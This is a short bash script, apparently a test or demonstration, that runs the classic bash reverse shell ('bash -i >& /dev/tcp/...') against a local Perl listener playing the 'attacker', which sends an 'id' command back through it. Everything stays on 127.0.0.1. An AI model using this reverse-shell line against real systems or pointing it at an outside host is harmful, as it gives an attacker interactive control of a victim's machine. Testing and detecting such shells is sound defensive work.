#!/bin/bash
# The classic bash reverse shell: bash -i with stdin/stdout on a TCP connection to the "attacker".
set -eu
port=14444
ready=$(mktemp -u)
perl -MIO::Socket::INET -e '
my ($port, $ready) = @ARGV;
my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $port, Listen => 1, ReuseAddr => 1) or die "listen: $!";
open(my $f, ">", $ready); close($f);
my $c = $l->accept; print $c "id; exit\n"; sleep 1; close($c);' "$port" "$ready" &
attacker=$!
for i in $(seq 150); do [ -e "$ready" ] && break; sleep 0.2; done
rm -f "$ready"
timeout 20 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null || true
wait $attacker || true
